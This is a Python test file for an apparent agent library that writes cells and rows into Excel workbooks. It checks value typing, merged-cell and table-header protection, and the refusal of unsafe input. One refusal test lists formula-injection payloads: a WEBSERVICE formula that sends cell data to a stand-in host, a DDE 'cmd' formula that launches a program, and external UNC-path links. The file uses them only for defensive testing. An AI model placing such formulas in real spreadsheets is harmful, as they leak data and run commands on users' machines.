"""Values put into cells, and rows below them: looked at in the XML that is written."""

import io
import zipfile

import pytest
from openpyxl import Workbook
from openpyxl.styles import Font
from openpyxl.worksheet.table import Table

from agent_core.errors import NoteRefusal
from agent_core.sheets.cells import Given, Rows, append, update
from agent_core.sheets.outcome import Outcome
from agent_core.sheets.values import Kind, Scalar
from tests.agent_core.sheets import books, raw
from tests.agent_core.sheets.raw import Raw


def put(*cells: Given, content: bytes = b"", sheet: str = "") -> Outcome:
    return update("a.xlsx", content or books.merged(), sheet, cells, as_copy=False)


def refusal(*cells: Given, content: bytes = b"") -> NoteRefusal:
    with pytest.raises(NoteRefusal) as refused:
        put(*cells, content=content)
    return refused.value


def codes(outcome: Outcome) -> dict[str, str | int]:
    return {one.code: one.facts.get("n", 0) for one in outcome.notices}


def test_covered_cell_is_refused_with_its_range_and_nothing_is_written() -> None:
    """A38."""
    facts = refusal(Given("B1", "x"), Given("A2", 1), Given("A3", 2)).facts
    assert (facts["reason"], facts["cell"], facts["merged"], facts["first"]) == (
        "sheet_merged",
        "B1",
        "A1:B1",
        "A1",
    )
    made = put(Given("A1", "x"), Given("A2", 1), Given("A3", 2))
    assert raw.values(made.content) == {"A1": "x", "A2": "1", "A3": "2"}


def test_text_stays_text_and_numbers_stay_numbers() -> None:
    """A41, A42."""
    given: dict[str, Scalar] = {
        "D1": "=1+1", "D2": "@SUM(1)", "D3": "+49 30 1234", "D4": "-3%", "D5": -5, "D6": -5.2, "D7": True,
        "D8": "#N/A", "D9": "007", "D10": " x ",
    }  # fmt: skip
    made = put(*(Given(cell, value) for cell, value in given.items()))
    found = raw.cells(made.content)
    assert {cell: found[cell].kind for cell in given} == {
        "D1": "s", "D2": "s", "D3": "s", "D4": "s", "D5": "n", "D6": "n", "D7": "b", "D8": "s", "D9": "s",
        "D10": "s",
    }  # fmt: skip
    assert [found[cell].text for cell in ("D1", "D4", "D5", "D6", "D10")] == [
        "=1+1",
        "-3%",
        "-5",
        "-5.2",
        " x ",
    ]
    assert not any(one.formula for one in found.values())
    assert codes(made) == {"sheet_number_texts": 2, "sheet_formula_texts": 1}


def test_formula_and_date_are_put_in_where_it_is_said() -> None:
    made = put(
        Given("D1", "SUM(D2:D3)", Kind.FORMULA),
        Given("D2", "2026-03-01", Kind.DATE),
        Given("D3", "18:30", Kind.DATE),
        Given("D4", "12.5%", Kind.NUMBER),
    )
    found = raw.cells(made.content)
    assert found["D1"].formula == "=SUM(D2:D3)"
    assert [found[cell].text for cell in ("D2", "D3", "D4")] == ["46082", "0.7708333333333334", "0.125"]
    assert [one.after for one in made.changes] == ["=SUM(D2:D3)", "2026-03-01", "18:30", "0.125"]
    assert codes(made) == {"sheet_recalculated": 1}


def test_cell_is_emptied_and_card_shows_what_it_held() -> None:
    made = put(Given("a1"))
    assert raw.values(made.content) == {}
    assert [(one.place, one.before, one.after) for one in made.changes] == [("A1", "head", "")]


def test_what_no_cell_can_hold_is_left_out_and_counted() -> None:
    """A40."""
    made = put(Given("C1", "a\x00b\x0bc\x1b\ufffe\tok"), Given("C2", 1234567890123456789))
    assert raw.cells(made.content)["C1"] == Raw("s", "abc\tok")
    assert raw.cells(made.content)["C2"] == Raw("s", "1234567890123456789")
    assert codes(made) == {"sheet_cleaned": 4, "sheet_long_numbers": 1}


@pytest.mark.parametrize(
    ("given", "reason"),
    [
        (Given("A0", 1), "sheet_cell"),
        (Given("A1:B1", 1), "sheet_cell"),
        (Given("XFE1", 1), "sheet_cell"),
        (Given("C1", "x" * 32_768), "sheet_value"),
        (Given("C1", "=SUM(1;2)", Kind.FORMULA), "sheet_value"),
        (Given("C1", "=SUM(1", Kind.FORMULA), "sheet_value"),
        (Given("C1", '=WEBSERVICE("https://x.example/"&A1)', Kind.FORMULA), "sheet_value"),
        (Given("C1", "=_xlfn.IMAGE(A1)", Kind.FORMULA), "sheet_value"),
        (Given("C1", "=cmd|'/c calc'!A0", Kind.FORMULA), "sheet_value"),
        (Given("C1", "=[1]Sheet!A1", Kind.FORMULA), "sheet_value"),
        (Given("C1", "='\\\\srv\\x\\[a.xlsx]S'!A1", Kind.FORMULA), "sheet_value"),
        (Given("C1", "1348-06-01", Kind.DATE), "sheet_value"),
        (Given("C1", "2026-03-01T10:00+02:00", Kind.DATE), "sheet_value"),
        (Given("C1", "soon", Kind.DATE), "sheet_value"),
        (Given("C1", "1,5", Kind.NUMBER), "sheet_value"),
        (Given("A1", "head"), "same"),
    ],
)
def test_value_that_does_not_fit_is_refused(given: Given, reason: str) -> None:
    assert refusal(given).facts["reason"] == reason


def test_cell_given_twice_is_refused() -> None:
    assert refusal(Given("C1", 1), Given("$c$1", 2)).facts["reason"] == "sheet_twice"


def people() -> bytes:
    book = Workbook()
    sheet = books.first(book)
    for row in (["Name", "Share"], ["Mara", 0.35]):
        sheet.append(row)
    sheet["A1"].font = Font(bold=True)
    sheet["B2"].number_format = "0%"
    sheet.add_table(Table(displayName="People", ref="A1:B2"))
    sheet["A900"].number_format = "0%"  # empty, but used as programs see it
    return books.saved(book)


def test_column_name_of_a_table_is_not_written_over() -> None:
    assert refusal(Given("B1", "Part"), content=people()).facts["blocked"] == (
        "B1, a column name of table People",
    )


def test_rows_go_below_the_last_filled_one_and_the_table_grows() -> None:
    rows = Rows([["Tom", 0.4], ["=x", None, "2026-03-01"]], dates=True)
    made = append("a.xlsx", people(), "", rows, as_copy=False)
    found = raw.cells(made.content)
    assert (found["A3"], found["B3"], found["A4"]) == (Raw("s", "Tom"), Raw("n", "0.4"), Raw("s", "=x"))
    assert found["C4"].text == "46082"
    assert [(one.place, one.after) for one in made.changes] == [
        ("3", "Tom | 40%"),
        ("4", "=x |  | 2026-03-01"),
    ]
    with zipfile.ZipFile(io.BytesIO(made.content)) as archive:
        assert b'ref="A1:B4"' in archive.read("xl/tables/table1.xml")


def test_rows_begin_where_the_last_row_does() -> None:
    book = Workbook()
    books.first(book)["C5"] = "x"
    content = books.saved(book)
    made = append("a.xlsx", content, "", Rows([[1, "=C5"]], formulas=True), as_copy=False)
    assert raw.values(made.content) == {"C5": "x", "C6": "1", "D6": "=C5"}
    named = append("a.xlsx", content, "", Rows([[1]], column="a"), as_copy=False)
    assert raw.values(named.content) == {"C5": "x", "A6": "1"}
    empty = append("a.xlsx", books.saved(Workbook()), "", Rows([["first"]]), as_copy=False)
    assert raw.values(empty.content) == {"A1": "first"}
